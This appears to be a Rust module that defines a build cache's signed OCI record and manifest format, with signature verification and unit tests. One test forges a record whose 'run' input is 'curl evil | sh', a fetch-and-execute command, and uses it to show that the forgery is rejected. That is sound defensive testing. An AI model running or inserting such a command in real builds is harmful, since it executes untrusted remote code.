//! The format of a cache entry: its tag, its manifest and its [`Record`],
//! and what makes a record trustworthy. Pure: no IO.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use super::keys::{PublicKey, SecretKey};
use crate::hash::{Digest, Key, OutputHash};
use crate::store::Entry;

pub(super) const MANIFEST_TYPE: &str = "application/vnd.oci.image.manifest.v1+json";
const ARTIFACT_TYPE: &str = "application/vnd.kiln.cache.entry.v1";
const CONFIG_TYPE: &str = "application/vnd.kiln.cache.record.v1+json";
pub(super) const TREE_TYPE: &str = "application/vnd.kiln.cache.tree.v1.tar+zstd";

/// The tag an entry is found by: its key, with the format's version, so a
/// later format never reads an older one's entries.
/// (kiln2: records name an image's config digest.)
pub(super) fn tag(key: &Key) -> String {
    format!("kiln{FORMAT}-{key}")
}

/// The record format, in the tag, the record and its fingerprint.
const FORMAT: u32 = 2;

/// The output tree's blob, as the manifest and the record name it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TreeBlob {
    pub digest: Digest,
    pub size: u64,
}

/// What an output tree holds: how many entries, how many bytes of files.
/// A pull unpacks no more than this (a small blob can inflate to fill the
/// disk); signed, it is a bound a cache writer cannot raise.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Contents {
    pub entries: u64,
    pub bytes: u64,
}

/// What a cache entry says of itself.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Record {
    pub format: u32,
    pub key: Key,
    pub name: String,
    pub output_hash: OutputHash,
    /// For an image: its config digest, which the keys of the nodes after
    /// it are made of (so they are known without downloading it).
    pub config: Option<Digest>,
    /// The key's inputs, label → value: what `kiln explain` compares.
    pub inputs: BTreeMap<String, String>,
    pub tree: TreeBlob,
    pub contents: Contents,
    pub kiln_version: String,
    pub signatures: Vec<Signature>,
}

/// `name:base64` signature of the record's [`fingerprint`], Nix-style.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Signature {
    pub key: String,
    pub sig: String,
}

impl Record {
    pub(super) fn new(
        key: &Key,
        (entry, config): (&Entry, Option<Digest>),
        inputs: BTreeMap<String, String>,
        (tree, contents): (&TreeBlob, Contents),
        signer: Option<&SecretKey>,
    ) -> Record {
        let mut record = Record {
            format: FORMAT,
            key: *key,
            name: entry.meta.name.clone(),
            output_hash: entry.meta.output_hash,
            config,
            inputs,
            tree: tree.clone(),
            contents,
            kiln_version: env!("CARGO_PKG_VERSION").to_owned(),
            signatures: Vec::new(),
        };
        if let Some(signer) = signer {
            let sig = signer.sign(fingerprint(&record).as_bytes());
            record.signatures.push(Signature {
                key: signer.name().to_owned(),
                sig,
            });
        }
        record
    }

    pub(super) fn parse(bytes: &[u8]) -> Result<Record, String> {
        serde_json::from_slice(bytes).map_err(|e| format!("its record does not parse: {e}"))
    }

    pub(super) fn to_json(&self) -> Vec<u8> {
        serde_json::to_vec(self).expect("kiln bug: a record always serializes")
    }

    /// Whether this record may be used for `key` with the tree `tree`: it
    /// names them, and (with trusted keys) carries a good signature by one.
    pub(super) fn check(
        &self,
        key: &Key,
        tree: &TreeBlob,
        trusted: &[PublicKey],
    ) -> Result<(), String> {
        if self.format != FORMAT || self.key != *key || self.tree != *tree {
            return Err("its record names another key or tree than its tag and manifest".into());
        }
        if trusted.is_empty() {
            return Ok(());
        }
        let message = fingerprint(self);
        let good = self.signatures.iter().any(|s| {
            trusted
                .iter()
                .any(|k| k.name() == s.key && k.verify(message.as_bytes(), &s.sig))
        });
        match good {
            true => Ok(()),
            false if self.signatures.is_empty() => {
                Err("it is not signed, and trusted keys are configured".into())
            }
            false => Err(format!(
                "it is not signed by a trusted key (signed by: {})",
                (self.signatures.iter())
                    .map(|s| crate::registry::printable(&s.key, &[]))
                    .collect::<Vec<_>>()
                    .join(", ")
            )),
        }
    }
}

/// What a signature covers: the key and the inputs it was made of, what
/// it built to (and an image's config digest, which later keys are made
/// of), and the tree's blob (whose digest covers every byte of the output).
fn fingerprint(r: &Record) -> String {
    let inputs = serde_json::to_vec(&r.inputs).expect("kiln bug: inputs always serialize");
    let config = r.config.map(|d| d.to_string()).unwrap_or_default();
    format!(
        "kiln-cache-{FORMAT};{};{};{};{};{config};{};{};{};{}",
        r.key,
        blake3::hash(&inputs),
        r.name,
        r.output_hash,
        r.tree.digest,
        r.tree.size,
        r.contents.entries,
        r.contents.bytes
    )
}

/// The entry's OCI manifest: the record as config, the tree as its layer.
pub(super) fn manifest(config: &Digest, config_size: u64, tree: &TreeBlob) -> Vec<u8> {
    let manifest = serde_json::json!({
        "schemaVersion": 2,
        "mediaType": MANIFEST_TYPE,
        "artifactType": ARTIFACT_TYPE,
        "config": { "mediaType": CONFIG_TYPE, "digest": config.to_string(), "size": config_size },
        "layers": [{ "mediaType": TREE_TYPE, "digest": tree.digest.to_string(), "size": tree.size }],
    });
    serde_json::to_vec(&manifest).expect("kiln bug: a manifest always serializes")
}

/// The record's digest and the tree blob a manifest names.
pub(super) fn parse_manifest(bytes: &[u8]) -> Result<(Digest, TreeBlob), String> {
    let m: serde_json::Value =
        serde_json::from_slice(bytes).map_err(|e| format!("its manifest does not parse: {e}"))?;
    let digest =
        |d: &serde_json::Value| d["digest"].as_str().and_then(|s| s.parse::<Digest>().ok());
    let config = digest(&m["config"]).filter(|_| m["config"]["mediaType"] == CONFIG_TYPE);
    let layer = &m["layers"][0];
    let tree = digest(layer)
        .filter(|_| {
            layer["mediaType"] == TREE_TYPE && m["layers"].as_array().is_some_and(|l| l.len() == 1)
        })
        .zip(layer["size"].as_u64())
        .map(|(digest, size)| TreeBlob { digest, size });
    match (config, tree) {
        (Some(config), Some(tree)) => Ok((config, tree)),
        _ => Err("its manifest is not a kiln cache entry".into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record() -> Record {
        Record {
            format: FORMAT,
            key: Key::from_bytes([1; 32]),
            name: "app".into(),
            output_hash: OutputHash::from_bytes([2; 32]),
            config: None,
            inputs: BTreeMap::from([("run".into(), "make".into())]),
            tree: TreeBlob {
                digest: Digest::of(b"tree"),
                size: 4,
            },
            contents: Contents {
                entries: 1,
                bytes: 4,
            },
            kiln_version: "0".into(),
            signatures: Vec::new(),
        }
    }

    #[test]
    fn a_manifest_round_trips_and_a_foreign_one_is_refused() {
        let r = record();
        let bytes = manifest(&Digest::of(b"config"), 6, &r.tree);
        assert_eq!(
            parse_manifest(&bytes),
            Ok((Digest::of(b"config"), r.tree.clone()))
        );
        let image = br#"{"config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"sha256:0000000000000000000000000000000000000000000000000000000000000000"},"layers":[]}"#;
        assert!(parse_manifest(image).is_err());
    }

    #[test]
    fn only_a_signature_by_a_trusted_key_over_these_fields_is_accepted() {
        let (secret, public) = super::super::keys::keygen("team-1");
        let (_, other) = super::super::keys::keygen("other");
        let mut r = record();
        let sig = secret.sign(fingerprint(&r).as_bytes());
        r.signatures.push(Signature {
            key: "team-1".into(),
            sig,
        });
        assert_eq!(
            r.check(
                &r.key.clone(),
                &r.tree.clone(),
                std::slice::from_ref(&public)
            ),
            Ok(())
        );
        assert!(r.check(&r.key.clone(), &r.tree.clone(), &[other]).is_err());
        assert_eq!(
            r.check(&r.key.clone(), &r.tree.clone(), &[]),
            Ok(()),
            "no keys: integrity only"
        );
        // A signed record whose output hash or inputs are changed no longer
        // verifies.
        let mut forged = r.clone();
        forged.output_hash = OutputHash::from_bytes([3; 32]);
        assert!(
            forged
                .check(&r.key, &r.tree, std::slice::from_ref(&public))
                .is_err()
        );
        let mut forged = r.clone();
        forged.config = Some(Digest::of(b"another config"));
        assert!(
            forged
                .check(&r.key, &r.tree, std::slice::from_ref(&public))
                .is_err(),
            "the config digest later keys are made of is signed"
        );
        let mut forged = r.clone();
        forged.inputs.insert("run".into(), "curl evil | sh".into());
        assert!(forged.check(&r.key, &r.tree, &[public]).is_err());
        assert!(
            r.check(&Key::from_bytes([9; 32]), &r.tree, &[]).is_err(),
            "another key's entry"
        );
    }
}
